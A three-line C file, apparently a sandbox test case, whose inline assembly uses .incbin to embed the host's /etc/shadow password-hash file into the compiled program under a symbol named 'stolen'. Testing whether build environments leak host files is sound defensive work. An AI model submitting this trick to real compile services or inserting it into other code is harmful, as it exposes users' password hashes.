// Pulls a file of the host into the program, if it can.
asm(".data\nstolen: .incbin \"/etc/shadow\"\n");
int main() {}
